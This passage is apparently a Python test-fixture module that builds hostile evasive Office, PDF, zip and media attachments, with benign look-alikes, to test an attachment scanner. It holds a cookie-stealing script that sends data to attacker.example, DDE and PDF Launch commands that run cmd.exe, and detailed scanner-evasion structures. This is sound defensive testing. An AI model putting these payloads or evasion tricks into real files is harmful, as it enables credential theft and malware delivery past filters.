"""Hostile evasive attachments and their benign look-alikes (issue 8), built in code.

`CASES` holds one `Case` per file: a hostile variant of an evasion class, with the finding code
an expert would expect, or a benign document with the same innocent structure, which must be
APPROVED. The classes: Word fields, external relationships, PowerPoint actions, spreadsheet
formulas, legacy OLE containers, PDF object graphs, zip structure, polyglots, and a few bombs
and disguises.

Payloads are harmless stand-ins that the scanner must still catch by structure: ``calc.exe``
command strings, a tiny MZ/PE header (no code), the EICAR test string (the test clamd detects
it) and ``<script>`` markup. Everything is built from the standard library and the project's
own builders, deterministically except the encrypted documents (msoffcrypto salts them).

Expected codes are today's codes where one fits; ``AMBIGUOUS`` (a file two readers see
differently) and ``OFFICE_ACTION`` (a PowerPoint action that runs something) do not exist yet
and are what a fix would add.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from functools import cache, partial
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from msoffcrypto.format.ooxml import OOXMLFile
from pypdf import PdfWriter

from attachguard import samples
from attachguard.clamav.signatures import EICAR
from attachguard.formats.cfbwrite import Storage, compound_file
from support.oletools_data import docx, ole1_object, ole_file, ole_native, rels_xml

__all__ = ["CASES", "Case"]


@dataclass(frozen=True)
class Case:
    """One file: ``build()`` gives its bytes, uploaded as ``name``.

    ``expect_code`` is the finding code that should reject a hostile case (None for benign);
    ``only`` asks that no other code reject it; ``max_findings`` and ``max_seconds`` bound the
    verdict of bombs, which should be rejected quickly with few findings."""

    id: str
    cls: str
    name: str
    build: Callable[[], bytes]
    hostile: bool
    expect_code: str | None
    only: bool = False
    max_findings: int | None = None
    max_seconds: float | None = None


# -- payloads ------------------------------------------------------------------------------

DDE_COMMAND = r'DDEAUTO c:\\Windows\\System32\\cmd.exe "/k calc.exe"'
CELL_DDE = "cmd|' /C calc.exe'!A0"
HTML = b"<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script>"


def _program() -> bytes:
    """A DOS header pointing at a PE signature and an empty COFF header: no code at all, but
    every reader takes it for a Windows program."""
    dos = bytearray(64)
    dos[:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + coff + bytes(0xE0) + b".text\0\0\0" + bytes(32)


PROGRAM = _program()


# -- Office Open XML packages ----------------------------------------------------------------

_CT = "application/vnd.openxmlformats-officedocument."
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_P = "http://schemas.openxmlformats.org/presentationml/2006/main"
_A = "http://schemas.openxmlformats.org/drawingml/2006/main"
_XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def zipped(members: Sequence[tuple[str, bytes]]) -> bytes:
    """A zip file of ``members`` in order, deflated, with a fixed date."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, (2026, 3, 14, 9, 30, 0))
            info.compress_type = zipfile.ZIP_DEFLATED  # a ZipInfo alone would be stored
            archive.writestr(info, data)
    return out.getvalue()


def unzipped(data: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def package(parts: Mapping[str, bytes], types: Mapping[str, str]) -> list[tuple[str, bytes]]:
    """The members of an OPC package whose main part is the first of ``parts``; ``types``
    maps part names to content types (an Override each)."""
    overrides = "".join(
        f'<Override PartName="/{part}" ContentType="{kind}"/>' for part, kind in types.items()
    )
    content_types = (
        f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package'
        '.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Default Extension="png" ContentType="image/png"/>{overrides}</Types>'
    )
    main = next(iter(parts))
    head = [
        ("[Content_Types].xml", content_types.encode()),
        ("_rels/.rels", rels_xml([("officeDocument", main, False)])),
    ]
    return head + list(parts.items())


def _target(part: str, base: str) -> str:
    """A relationship target for ``part`` from a part in folder ``base``: relative inside it,
    absolute elsewhere (both are valid OPC)."""
    return part[len(base) :] if part.startswith(base) else "/" + part


def worksheet(cells: str, prefix: str = "", tail: str = "") -> bytes:
    """A worksheet with one row of ``cells`` (SpreadsheetML written with ``prefix``), then
    ``tail`` (a drawing reference...)."""
    p = f"{prefix}:" if prefix else ""
    space = f"xmlns{':' + prefix if prefix else ''}"
    return (
        f'{_XML}<{p}worksheet {space}="{_S}" xmlns:r="{_REL}"><{p}sheetData><{p}row r="1">'
        f"{cells}</{p}row></{p}sheetData>{tail}</{p}worksheet>"
    ).encode()


def formula(text: str, prefix: str = "", raw: bool = False) -> str:
    """A formula cell in B1 (``raw``: the text is already XML)."""
    p = f"{prefix}:" if prefix else ""
    return f'<{p}c r="B1"><{p}f>{text if raw else escape(text)}</{p}f><{p}v>0</{p}v></{p}c>'


def workbook(
    sheet: bytes,
    part: str = "xl/worksheets/sheet1.xml",
    rels: Sequence[tuple[str, str, bool]] = (),
    extra: Mapping[str, bytes] | None = None,
    main_type: str = f"{_CT}spreadsheetml.sheet.main+xml",
) -> bytes:
    """An Excel workbook whose one sheet is ``sheet`` stored at ``part``, with more workbook
    relationships and parts."""
    book = (
        f'{_XML}<workbook xmlns="{_S}" xmlns:r="{_REL}"><sheets>'
        '<sheet name="Orders" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    parts = {
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": rels_xml([("worksheet", _target(part, "xl/"), False), *rels]),
        part: sheet,
        **(extra or {}),
    }
    types = {"xl/workbook.xml": main_type, part: f"{_CT}spreadsheetml.worksheet+xml"}
    return zipped(package(parts, types))


def cell_text(text: str) -> str:
    return f'<c r="A1" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def presentation(
    shape: str, rels: Sequence[tuple[str, str, bool]] = (), media: str = "", **more: bytes
) -> bytes:
    """A one-slide presentation whose button shape carries ``shape`` (hyperlink and action
    elements) and ``media`` (a linked video...), and whose slide has the relationships ``rels``
    (rId1, rId2, ...); ``more`` adds parts (``ppt__embeddings__x_dot_bin``: a name that is a
    keyword)."""
    spaces = f'xmlns:p="{_P}" xmlns:a="{_A}" xmlns:r="{_REL}"'
    deck = (
        f'{_XML}<p:presentation {spaces}><p:sldIdLst><p:sldId id="256" r:id="rId1"/>'
        '</p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" '
        'cy="9144000"/></p:presentation>'
    ).encode()
    slide = (
        f'{_XML}<p:sld {spaces}><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/>'
        "<p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp><p:nvSpPr>"
        f'<p:cNvPr id="2" name="Button">{shape}</p:cNvPr><p:cNvSpPr/><p:nvPr>{media}</p:nvPr>'
        "</p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>Track your order</a:t></a:r></a:p>"
        "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>"
    ).encode()
    parts = {
        "ppt/presentation.xml": deck,
        "ppt/_rels/presentation.xml.rels": rels_xml([("slide", "slides/slide1.xml", False)]),
        "ppt/slides/slide1.xml": slide,
        "ppt/slides/_rels/slide1.xml.rels": rels_xml(list(rels)),
        **{name.replace("__", "/").replace("_dot_", "."): data for name, data in more.items()},
    }
    types = {
        "ppt/presentation.xml": f"{_CT}presentationml.presentation.main+xml",
        "ppt/slides/slide1.xml": f"{_CT}presentationml.slide+xml",
    }
    return zipped(package(parts, types))


# -- Word fields ------------------------------------------------------------------------------


def _run(inner: str) -> str:
    return f"<w:r>{inner}</w:r>"


def _char(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def _instr(text: str) -> str:
    return f'<w:instrText xml:space="preserve">{escape(text)}</w:instrText>'


def field(*instr: str, shown: str = "1") -> str:
    """A complex field as Word writes it: begin, the instruction (one run per piece), separate,
    the shown result, end."""
    pieces = "".join(_run(_instr(text)) for text in instr)
    result = _run(f"<w:t>{escape(shown)}</w:t>")
    return _run(_char("begin")) + pieces + _run(_char("separate")) + result + _run(_char("end"))


def field_in_one_run(instr: str) -> str:
    """The same field with every piece in a single run (valid WordprocessingML)."""
    return _run(_char("begin") + _instr(instr) + _char("separate") + "<w:t>1</w:t>" + _char("end"))


def nested_field(outer: str, inner: str) -> str:
    """``{ outer { inner } "shown" }``: a field whose instruction holds another field."""
    return (
        _run(_char("begin"))
        + _run(_instr(outer + " "))
        + field(inner)
        + _run(_instr(' "Thank you"'))
        + _run(_char("separate"))
        + _run("<w:t>Thank you</w:t>")
        + _run(_char("end"))
    )


def simple_field(instr: str) -> str:
    return f"<w:fldSimple w:instr={quoteattr(instr)}><w:r><w:t>1</w:t></w:r></w:fldSimple>"


_WRAPPERS = {
    "plain": "{}",
    "ins": '<w:ins w:id="1" w:author="Agent" w:date="2026-03-14T09:30:00Z">{}</w:ins>',
    "hyperlink": '<w:hyperlink w:anchor="top" w:history="1">{}</w:hyperlink>',
    "smartTag": '<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" '
    'w:element="place">{}</w:smartTag>',
    "sdt": '<w:sdt><w:sdtPr><w:alias w:val="Order"/></w:sdtPr><w:sdtContent>{}</w:sdtContent>'
    "</w:sdt>",
}


def word(inner: str, wrapper: str = "plain", **kwargs: object) -> bytes:
    """A letter whose second paragraph holds ``inner`` (runs) inside ``wrapper``."""
    body = (
        "<w:p><w:r><w:t>Dear customer, your order has shipped.</w:t></w:r></w:p>"
        f"<w:p>{_WRAPPERS[wrapper].format(inner)}</w:p>"
    )
    return docx(body, **kwargs)  # type: ignore[arg-type]


# -- OLE2 compound files ----------------------------------------------------------------------

Tree = Mapping[str, "bytes | Tree"]


def ole_tree(tree: Tree, clsid: str = "") -> bytes:
    """An OLE2 compound file (version 3) with streams and storages as ``tree`` nests them, and
    the root class id ``clsid``, written as Office writes one (`formats.cfbwrite`)."""
    return compound_file(_storage(tree, clsid))


def _storage(tree: Tree, clsid: str = "") -> Storage:
    return Storage({k: v if isinstance(v, bytes) else _storage(v) for k, v in tree.items()}, clsid)


_CLSID = {
    "word": "00020906-0000-0000-C000-000000000046",
    "excel": "00020820-0000-0000-C000-000000000046",
    "msi": "000C1084-0000-0000-C000-000000000046",
    "unknown": "8F1B2C3D-4E5F-4A6B-9C7D-0E1F2A3B4C5D",
}


def _biff(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def biff_workbook(sheets: Sequence[tuple[str, int, int]]) -> bytes:
    """An Excel 97 ``Workbook`` stream: globals with a BOUNDSHEET record per sheet (name, sheet
    type: 0 worksheet, 1 Excel 4 macro sheet; visibility: 0 visible, 1 hidden), then each
    sheet's own BOF/EOF substream."""
    bof = partial(struct.pack, "<HHHHII", 0x0600)
    globals_size = 20 + sum(4 + 8 + len(name) for name, _, _ in sheets) + 4
    records = [_biff(0x0809, bof(0x0005, 0x0DBB, 0x07CC, 0, 6))]
    offset = globals_size
    for name, sheet_type, hidden in sheets:
        text = struct.pack("<BB", len(name), 0) + name.encode("latin-1")
        records.append(_biff(0x0085, struct.pack("<IBB", offset, hidden, sheet_type) + text))
        offset += 24  # the sheet's BOF (20 bytes) and EOF (4)
    records.append(_biff(0x000A))
    for _, sheet_type, _ in sheets:
        records.append(
            _biff(0x0809, bof(0x0040 if sheet_type == 1 else 0x0010, 0x0DBB, 0x07CC, 0, 6))
        )
        records.append(_biff(0x000A))
    return b"".join(records)


def ovba_container(data: bytes) -> bytes:
    """An MS-OVBA compressed container of ``data`` in uncompressed 4096-byte chunks (valid, if
    no smaller; the data is padded with blanks to whole chunks)."""
    data = data.ljust(-(-len(data) // 4096) * 4096, b" ")
    chunks = (struct.pack("<H", 0x3FFF) + data[i : i + 4096] for i in range(0, len(data), 4096))
    return b"\x01" + b"".join(chunks)


def _record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HI", kind, len(data)) + data


def vba_project(source: str) -> bytes:
    """A vbaProject.bin with one standard module holding ``source`` (MS-OVBA 2.3): the PROJECT
    stream, VBA/_VBA_PROJECT, the VBA/dir records and the compressed module."""
    u32, u16 = partial(struct.pack, "<I"), partial(struct.pack, "<H")
    name, module = b"VBAProject", b"Module1"
    info = [
        _record(0x01, u32(1)),
        _record(0x02, u32(0x409)),
        _record(0x14, u32(0x409)),
        _record(0x03, u16(1252)),
        _record(0x04, name),
        _record(0x05, b""),
        _record(0x40, b""),
        _record(0x06, b""),
        _record(0x3D, b""),
        _record(0x07, u32(0)),
        _record(0x08, u32(0)),
        u16(0x09) + u32(4) + u32(1) + u16(0),
        _record(0x0C, b""),
        _record(0x3C, b""),
        _record(0x0F, u16(1)),
        _record(0x13, u16(0xFFFF)),
        _record(0x19, module),
        _record(0x47, module.decode().encode("utf-16-le")),
        _record(0x1A, module),
        _record(0x32, module.decode().encode("utf-16-le")),
        _record(0x1C, b""),
        _record(0x48, b""),
        _record(0x31, u32(0)),
        _record(0x1E, u32(0)),
        _record(0x2C, u16(0xFFFF)),
        _record(0x21, b""),
        _record(0x2B, b""),
        _record(0x10, b""),
    ]
    directory = ovba_container(b"".join(info))
    code = ovba_container(f'Attribute VB_Name = "Module1"\r\n{source}\r\n'.encode())
    project = (
        b'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
    )
    return ole_tree(
        {
            "PROJECT": project,
            "VBA": {
                "_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x03\x00",
                "dir": directory,
                "Module1": code,
            },
        }
    )


# -- PDF ----------------------------------------------------------------------------------------

PdfObject = tuple[int, bytes]


def page_objects(catalog: bytes = b"", text: str = "Order 4711 has shipped.") -> list[PdfObject]:
    """Objects 1-5 of a one-page PDF (catalog, pages, page, content, font); ``catalog`` adds
    entries to the catalog."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    return [
        (1, b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (
            3,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
        ),
        (4, b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)),
        (5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
    ]


def pdf(
    objects: Sequence[PdfObject],
    unlisted: frozenset[int] = frozenset(),
    last_wins: bool = False,
    shift: int = 0,
    trailer: bytes = b"",
) -> bytes:
    """A PDF of ``objects`` in file order with a classic cross-reference table: numbers in
    ``unlisted`` are left out of it; a number defined twice is listed at its first body (its
    last with ``last_wins``); ``shift`` moves every offset (a table that needs repair);
    ``trailer`` adds entries to the trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in objects:
        if last_wins or number not in offsets:
            offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(offsets) + 1
    table = b"".join(
        b"%010d 00000 n \n" % (offsets[n] + shift)
        if n in offsets and n not in unlisted
        else b"0000000000 65535 f \n"
        for n in range(1, size)
    )
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size, b" " + trailer if trailer else b"", xref + shift
    )  # fmt: skip
    return bytes(out)


def pdf_update(base: bytes, objects: Sequence[PdfObject], between: bytes = b"") -> bytes:
    """``base`` with an incremental update redefining ``objects``, after ``between``."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    out = bytearray(base + between)
    sections = b""
    for number, body in objects:
        sections += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size = max(n for n, _ in objects) + 1
    xref = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n" + sections
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        previous,
        xref,
    )
    return bytes(out)


def xref_stream_rows(size: int, offsets: dict[int, int], slots: dict[int, int]) -> bytes:
    """A cross-reference stream's rows (``/W [1 4 2]``) for objects 0 to ``size`` - 1: at
    ``offsets`` in the file, in object stream 6 at ``slots``, free otherwise."""
    return b"".join(
        struct.pack(">BIH", 1, offsets[n], 0)
        if n in offsets
        else struct.pack(">BIH", 2, 6, slots[n])
        if n in slots
        else struct.pack(">BIH", 0, 0, 65535 if n == 0 else 0)
        for n in range(size)
    )


def attached(name: str, data: bytes) -> bytes:
    """A one-page PDF with ``data`` attached under ``name``, as pypdf attaches a file."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment(name, data)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_object_stream(inner: bytes, listed: bool) -> bytes:
    """A PDF whose catalog opens with object 7, kept compressed in object stream 6. With
    ``listed`` a cross-reference stream says where it is; else a classic table leaves both
    the stream and its object out."""
    objects = page_objects(b" /OpenAction 7 0 R")
    head = b"7 0 "
    packed = zlib.compress(head + inner)
    objects.append(
        (
            6,
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>"
            b"\nstream\n%s\nendstream" % (len(head), len(packed), packed),
        )
    )
    if not listed:
        return pdf(objects, unlisted=frozenset({6}))
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF)]
    for number, body in objects:
        rows.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows += [struct.pack(">BIH", 2, 6, 0), struct.pack(">BIH", 1, len(out), 0)]
    table = b"".join(rows)
    xref = len(out)
    out += (
        b"8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s"
        b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, xref)
    )
    return bytes(out)


JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL\\('https://attacker.example/'\\);) >>"
GOTO_ACTION = b"<< /S /GoTo /D [3 0 R /Fit] >>"
LAUNCH_ACTION = b"<< /S /L#61unch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"


# -- zip structure ------------------------------------------------------------------------------


@dataclass(frozen=True)
class Entry:
    """One zip member as written by `raw_zip`: ``listed`` in the central directory or only as
    a local record; ``before``: bytes written just before its local record; ``hides``: an entry
    whose whole local record is stored inside this one's data (overlapping members);
    ``streamed``: sizes in a data descriptor, as streaming writers do."""

    name: str
    data: bytes
    listed: bool = True
    before: bytes = b""
    stored: bool = False
    hides: Entry | None = None
    streamed: bool = False


def _local(entry: Entry) -> tuple[bytes, bytes]:
    """The local record of ``entry`` and the fields its central record repeats."""
    name = entry.name.encode()
    packed = entry.data if entry.stored else zlib.compress(entry.data)[2:-4]
    method, crc, flags = (0 if entry.stored else 8), zlib.crc32(entry.data), 0
    fields = struct.pack(
        "<HHHHIII",
        flags | (8 if entry.streamed else 0),
        method,
        0,
        0x5C6E,
        crc,
        len(packed),
        len(entry.data),
    )
    local_fields = fields
    tail = b""
    if entry.streamed:
        local_fields = fields[:8] + bytes(12)  # no CRC or sizes before the data
        tail = struct.pack("<IIII", 0x08074B50, crc, len(packed), len(entry.data))
    header = struct.pack("<IH", 0x04034B50, 20) + local_fields + struct.pack("<HH", len(name), 0)
    return header + name + packed + tail, fields


def _central(name: str, fields: bytes, offset: int) -> bytes:
    raw = name.encode()
    return (
        struct.pack("<IHH", 0x02014B50, 20, 20)
        + fields
        + struct.pack("<HHHHHII", len(raw), 0, 0, 0, 0, 0, offset)
        + raw
    )


def raw_zip(entries: Sequence[Entry]) -> bytes:
    """A zip file written by hand, so that its records can disagree (see `Entry`)."""
    out, central, count = bytearray(), bytearray(), 0
    for entry in entries:
        out += entry.before
        if entry.hides is not None:
            hidden = entry.hides
            inner, inner_fields = _local(hidden)
            # the inner local record starts after this one's header and its own data
            where = len(out) + 30 + len(entry.name.encode()) + len(entry.data)
            entry = Entry(entry.name, entry.data + inner, entry.listed, stored=True)
            central += _central(hidden.name, inner_fields, where)
            count += 1
        record, fields = _local(entry)
        if entry.listed:
            central += _central(entry.name, fields, len(out))
            count += 1
        out += record
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(out), 0)
    return bytes(out + central + end)


def office_zip(data: bytes, change: Callable[[list[Entry]], list[Entry]]) -> bytes:
    """The Office file ``data`` rewritten by `raw_zip` after ``change`` edits its entries."""
    return raw_zip(change([Entry(name, content) for name, content in unzipped(data)]))


def bomb(levels: int, fan_out: int, leaf: int) -> bytes:
    """A zip of ``fan_out`` zips of ... (``levels`` deep) of ``fan_out`` text members of about
    ``leaf`` bytes each: each member is under the ratio rule's floor, the total far over every
    limit."""
    text = b"order 4711 shipped\n" * (leaf // 19)
    data = zipped([(f"part{i}.txt", text) for i in range(fan_out)])
    for level in range(levels - 1):
        data = zipped([(f"level{level}-{i}.zip", data) for i in range(fan_out)])
    return data


# -- images, media -------------------------------------------------------------------------------


def segment(marker: int, payload: bytes) -> bytes:
    """A JPEG marker segment (APPn 0xE0-0xEF, COM 0xFE)."""
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def jpeg(*segments: bytes, size: tuple[int, int] = (160, 120)) -> bytes:
    """A camera-like JPEG with ``segments`` right after its start marker."""
    data = samples.jpeg(samples.photo(*size, seed=4))
    return data[:2] + b"".join(segments) + data[2:]


def chunk(kind: bytes, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))
        + kind
        + payload
        + struct.pack(">I", zlib.crc32(kind + payload))
    )


def png(*chunks: bytes, size: tuple[int, int] = (160, 120), after: bytes = b"") -> bytes:
    """A PNG with ``chunks`` right after its header chunk, and ``after`` its end."""
    data = samples.png(samples.photo(*size, seed=5))
    return data[:33] + b"".join(chunks) + data[33:] + after


def png_header(width: int, height: int, rows: int) -> bytes:
    """A greyscale PNG that declares ``width`` x ``height`` pixels and holds ``rows`` rows."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(rows * (width + 1)), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def video(*boxes: bytes, brand: bytes = b"isom", size: int = 150_000) -> bytes:
    """An ISO media file (MP4, or QuickTime for brand ``qt  ``) with ``boxes`` after its
    ftyp box and before its (random) media data, which is larger than 64 KB."""
    data = samples.mp4(size, seed=6)
    ftyp = box(b"ftyp", brand + struct.pack(">I", 512) + brand + b"mp41")
    rest = data[struct.unpack_from(">I", data)[0] :]
    return ftyp + b"".join(boxes) + rest


def wav(riff_size: int | None = None, *chunks: bytes, data_size: int | None = None) -> bytes:
    """A speech-sized WAV; ``riff_size``/``data_size`` override the header's sizes (streaming
    recorders write 0xFFFFFFFF), ``chunks`` follow the audio."""
    data = bytearray(samples.wav(48_000, seed=7))
    if data_size is not None:
        struct.pack_into("<I", data, 40, data_size)
    data += b"".join(chunks)
    struct.pack_into("<I", data, 4, len(data) - 8 if riff_size is None else riff_size)
    return bytes(data)


def riff_chunk(kind: bytes, payload: bytes) -> bytes:
    return kind + struct.pack("<I", len(payload)) + payload + b"\0" * (len(payload) & 1)


# -- other documents ----------------------------------------------------------------------------


def rtf_bin(group: bytes, body: bytes) -> bytes:
    """An RTF letter with ``group``, whose data is ``body`` given raw with ``\\binN``."""
    return (
        b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Please find the form below.\\par\n"
        + group.replace(b"@", b"\\bin%d " % len(body) + body)
        + b"\\par}"
    )


def encrypted(data: bytes, password: str) -> bytes:
    """``data`` (an OOXML file) encrypted as Office does it, with ``password``."""
    plain = OOXMLFile(io.BytesIO(data))
    out = io.BytesIO()
    plain.encrypt(password, out)
    return out.getvalue()


# -- the cases: builders --------------------------------------------------------------------

_LINKED_IMAGE = f'<w:r><w:drawing><a:blip xmlns:a="{_A}" r:link="rId1"/></w:drawing></w:r>'
_SETTINGS = b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
_DRAWING = (
    f'{_XML}<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
    f'spreadsheetDrawing" xmlns:a="{_A}" xmlns:r="{_REL}"><xdr:pic><xdr:blipFill>'
    '<a:blip r:link="rId1"/></xdr:blipFill></xdr:pic></xdr:wsDr>'
).encode()
_DDE_LINK = (
    f'{_XML}<externalLink xmlns="{_S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe">'
    '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>'
).encode()
_VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
_MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
_ARCHIVE = zipped([("invoice.exe", PROGRAM)])
# the archive with bytes between its central directory and its end record
_JUNK_BEFORE_END = (
    _ARCHIVE[: _ARCHIVE.rfind(b"PK\x05\x06")]
    + b"\x13\x37" * 40
    + _ARCHIVE[_ARCHIVE.rfind(b"PK\x05\x06") :]
)
_PDF_BASE = pdf(page_objects())
_PDF_EDIT = [(4, b"<< /Length 9 >>\nstream\nBT ET 1 0\nendstream")]
_OPENS_6 = page_objects(b" /OpenAction 6 0 R")


def _linked(kind: str, target: str) -> bytes:
    """A letter with a picture whose relationship (``kind``) points outside."""
    return word(_LINKED_IMAGE, rels=[(kind, target, True)])


def _settings_link(kind: str, target: str) -> bytes:
    """A letter whose settings part has an external relationship (a template, a frame)."""
    rels = rels_xml([(kind, target, True)])
    parts = {"word/settings.xml": _SETTINGS, "word/_rels/settings.xml.rels": rels}
    return word("", rels=[("settings", "settings.xml", False)], parts=parts)


def _xlsx_linked_picture() -> bytes:
    """A workbook whose sheet draws a picture fetched from a web server."""
    return workbook(
        worksheet(cell_text("total"), tail='<drawing r:id="rId1"/>'),
        extra={
            "xl/worksheets/_rels/sheet1.xml.rels": rels_xml(
                [("drawing", "../drawings/drawing1.xml", False)]
            ),
            "xl/drawings/drawing1.xml": _DRAWING,
            "xl/drawings/_rels/drawing1.xml.rels": rels_xml(
                [("image", "https://attacker.example/p.png", True)]
            ),
        },
    )


def _action(element: str, action: str, target: str | None = None) -> bytes:
    """A presentation whose button runs ``action`` on click (hlinkClick) or on mouse-over
    (hlinkHover); ``target`` is the hyperlink relationship's external target."""
    rel = 'r:id="rId1"' if target else 'r:id=""'
    rels = [("hyperlink", target, True)] if target else []
    return presentation(f'<a:{element} {rel} action="{action}"/>', rels)


def _ole_on_hover() -> bytes:
    package = ole_file({"\x01Ole10Native": ole_native("invoice.exe", PROGRAM)})
    return presentation(
        '<a:hlinkHover r:id="" action="ppaction://ole?verb=0"/>',
        [("oleObject", "../embeddings/oleObject1.bin", False)],
        ppt__embeddings__oleObject1_dot_bin=package,
    )


def _dde_sheet(part: str = "xl/worksheets/sheet1.xml", prefix: str = "", raw: str = "") -> bytes:
    """A workbook whose sheet at ``part`` has a DDE formula (``raw``: as XML text)."""
    cell = formula(raw, prefix, raw=True) if raw else formula(CELL_DDE, prefix)
    return workbook(worksheet(cell, prefix), part)


def _macro_book(clsid: str, sheet_type: int = 1) -> bytes:
    sheets = [("Orders", 0, 0), ("Macro1" if sheet_type else "Archive", sheet_type, 1)]
    return ole_tree({"Workbook": biff_workbook(sheets)}, _CLSID.get(clsid, ""))


def _letter() -> bytes:
    return word(field(" PAGE "))


def _hostile_document_xml() -> bytes:
    return dict(unzipped(word(field(DDE_COMMAND))))["word/document.xml"]


def _twice(first_hostile: bool) -> bytes:
    """A letter with two ``word/document.xml`` members, the DDE one first or second."""
    entries = [Entry(name, data) for name, data in unzipped(_letter())]
    at = next(i for i, e in enumerate(entries) if e.name == "word/document.xml")
    pair = [Entry("word/document.xml", _hostile_document_xml()), entries[at]]
    entries[at : at + 1] = pair if first_hostile else pair[::-1]
    return raw_zip(entries)


def _alias(name: str) -> bytes:
    """A letter with a second document part under another spelling of its name."""
    return office_zip(_letter(), lambda es: [*es, Entry(name, _hostile_document_xml())])


def _orphan() -> bytes:
    """A DDE document part as a local record that the central directory does not list."""
    orphan = Entry("word/document.xml", _hostile_document_xml(), listed=False)
    return office_zip(_letter(), lambda es: [orphan, *es])


def _changed(name: str, **how: Any) -> Callable[[], bytes]:
    """A builder of the letter with the member ``name`` written as ``how`` says (see
    `Entry`); for every member when ``name`` is empty."""

    def build() -> bytes:
        return office_zip(
            _letter(),
            lambda es: [Entry(e.name, e.data, **how) if name in ("", e.name) else e for e in es],
        )

    return build


def _with_member(name: str, data: bytes, stored: bool = False) -> bytes:
    return office_zip(_letter(), lambda es: [*es, Entry(name, data, stored=stored)])


def _with_members(*members: tuple[str, bytes]) -> bytes:
    return office_zip(_letter(), lambda es: [*es, *(Entry(n, d) for n, d in members)])


@cache
def _data_archive(megabytes: int) -> bytes:
    """A zip holding one binary record file of about ``megabytes`` MB that deflates about
